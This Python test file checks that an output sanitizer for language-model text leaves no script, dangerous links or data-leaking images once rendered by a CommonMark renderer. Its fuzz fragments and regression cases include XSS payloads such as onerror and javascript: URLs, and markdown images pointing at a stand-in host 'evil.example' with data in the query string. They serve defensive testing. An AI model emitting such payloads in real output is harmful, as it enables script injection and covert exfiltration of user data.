"""Sanitized output rendered by a real CommonMark renderer has no exfiltration image, no
dangerous link and no active HTML.

The renderer is markdown-it (CommonMark, raw HTML on) with its own link filter turned off, as
in a renderer that trusts its input; the rendered HTML is parsed with ``html.parser``.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mistral_secure._output import OutputSanitizer, sanitize_stream

pytest.importorskip("markdown_it")
from markdown_it import MarkdownIt

_ACTIVE_TAGS = frozenset(
    (  # noqa: SIM905
        "script iframe object embed form meta base style svg math link frame frameset applet "
        "img image video audio source picture input button textarea template"
    ).split()
)
_URL_ATTRS = frozenset(
    "href src action formaction data srcset poster background xlink:href".split()  # noqa: SIM905
)


def _renderer() -> MarkdownIt:
    md = MarkdownIt("commonmark", {"html": True})
    md.validateLink = lambda url: True  # type: ignore[method-assign]  # trust every destination
    return md


_MD = _renderer()


def render(text: str) -> str:
    html: str = _MD.render(text)
    return html


class _Audit(HTMLParser):
    def __init__(self, image_hosts: frozenset[str], link_hosts: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.image_hosts, self.link_hosts = image_hosts, link_hosts
        self.reasons: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            if name.startswith("on"):
                self.reasons.append(f"handler:{tag}.{name}")
            if name == "style":
                self.reasons.append(f"style-attr:{tag}")
            if name not in _URL_ATTRS or value is None:
                continue
            if tag == "a" and name == "href":
                ok = _allowed(value, self.link_hosts)
            else:
                ok = (
                    tag == "img"
                    and name == "src"
                    and _allowed(value, self.image_hosts, mailto=False)
                )
            if not ok:
                self.reasons.append(f"url:{tag}.{name}")
        if tag in _ACTIVE_TAGS and not (
            tag == "img" and _allowed(dict(attrs).get("src") or "", self.image_hosts, mailto=False)
        ):
            self.reasons.append(f"tag:{tag}")

    handle_startendtag = handle_starttag


def _allowed(url: str, hosts: frozenset[str], *, mailto: bool = True) -> bool:
    # Browsers drop these before reading a scheme, and read "\" as "/" in http(s) URLs.
    cleaned = "".join(c for c in url if c > " ").replace("\\", "/")
    try:
        parts = urlsplit(cleaned)
    except ValueError:
        return False
    scheme = parts.scheme.lower()
    if scheme == "mailto":
        return mailto
    if scheme not in ("http", "https"):
        return False
    host = (parts.hostname or "").rstrip(".")
    return any(host == h or host.endswith("." + h) for h in hosts)


def unsafe_reasons(
    text: str, image_hosts: frozenset[str] = frozenset(), link_hosts: frozenset[str] | None = None
) -> list[str]:
    """What in the rendering of ``text`` could run script or fetch/link a non-allowed URL."""
    audit = _Audit(image_hosts, image_hosts if link_hosts is None else link_hosts)
    audit.feed(render(text))
    audit.close()
    return audit.reasons


FRAGMENTS = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    "`",
    "``",
    ":",
    "\\",
    "\n",
    "\n\n",
    " ",
    "    ",
    "a",
    "x y",
    "](",
    "![",
    "]:",
    "[a]",
    "[a]: ",
    "[a]:t",
    "[a][]",
    "[b][a]",
    "\n[a]: ",
    "> ",
    "\n>",
    "- ",
    "1. ",
    "* ",
    "```\n",
    "~~~",
    "javascript:alert(1)",
    "https://evil.example/p?q=S",
    "<https://evil.example/>",
    "<ps:>",
    "<a@b.co>",
    "mailto:x@y.z",
    "data:x",
    "vbscript:x",
    "java\tscript:",
    "javascript&colon;x",
    "&#106;avascript:x",
    "https&#58;//evil.example",
    "&lt;",
    "<a ",
    "<a href=",
    '"',
    "'",
    "<img src=x onerror=alert(1)>",
    "<b>",
    "</b>",
    "<!-- ",
    " -->",
    "<!>",
    "<?",
    "<x:y>",
    "<svg onload=f()>",
    "<script>",
    "<a href=https://evil.example/>",
    "title",
    "\t",
    "<br/>",
    "<p",
    " src=",
    "&#91;",
    "&#93;",
    "*",
    "_",
    "#",
    "|",
]


def _mixes() -> st.SearchStrategy[str]:
    return st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=16).map("".join)


# Minimal inputs the renderer found unsafe after sanitization (each unsafe as input, too).
REGRESSIONS = [
    "<a<ps:>",
    "<p<script>",
    ">[a]:t\n[a]",
    "`x\n>[a]: evil.example/\n[b][a] `",
    "`|<script>\n>[b]`",
    "    x `\ny <script>`",
    "<p| [x](javascript:alert(1))>",
    "<br/>\n\\<img src=x onerror=alert(1)>",
    "[a]: mailto:x\n![b][a]",
    '<a href="https://evil.example/">x</a>',
    "![x](https://evil.example/p?q=S)",
    "[a]: https://evil.example/\n![x][a]",
    "<https://evil.example/>",
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
]


# Safe as input, made unsafe by an edit of the sanitizer (removed text uncovered structure).
EDIT_REGRESSIONS = [
    "<!>[a]:t\n[a]",
    "<a \\<ps:>",
    "<?- x\\<svg onload=f()>",
    "``<svg onload=f()>\n[a]: `` -->",
]


@pytest.mark.parametrize("text", EDIT_REGRESSIONS)
def test_edits_uncover_nothing(text: str) -> None:
    assert unsafe_reasons(OutputSanitizer().sanitize(text).text) == []


def test_allowed_hosts_are_kept_and_others_are_not() -> None:
    s = OutputSanitizer(allowed_hosts=["cdn.example.com"])
    text = (
        "![a](https://cdn.example.com/a.png) ![b](https://evil.example/b.png)\n\n"
        "[c]: https://cdn.example.com/c.png\n\n![c][c] [d](https://cdn.example.com/d)\n"
    )
    out = s.sanitize(text).text
    hosts = frozenset({"cdn.example.com"})
    assert unsafe_reasons(out, hosts) == []
    html = render(out)
    assert html.count("<img") == 2 and "https://cdn.example.com/d" in html


@pytest.mark.parametrize("text", REGRESSIONS)
def test_regressions_render_safe(text: str) -> None:
    assert unsafe_reasons(text), "the input itself must be unsafe for the test to mean anything"
    assert unsafe_reasons(OutputSanitizer().sanitize(text).text) == []


@settings(max_examples=400, deadline=None, derandomize=True)
@given(_mixes())
def test_rendered_sanitized_output_is_safe(text: str) -> None:
    assert unsafe_reasons(OutputSanitizer().sanitize(text).text) == []


@settings(max_examples=150, deadline=None, derandomize=True)
@given(_mixes(), st.lists(st.integers(1, 7), min_size=1, max_size=20))
def test_streamed_output_renders_safe(text: str, sizes: list[int]) -> None:
    s = OutputSanitizer(max_segment=512)
    chunks, pos = [], 0
    for n in sizes * (len(text) // max(sum(sizes), 1) + 1):
        chunks.append(text[pos : pos + n])
        pos += n
    streamed = "".join(sanitize_stream([c for c in chunks if c], s))
    assert streamed == s.sanitize(text).text
    assert unsafe_reasons(streamed) == []
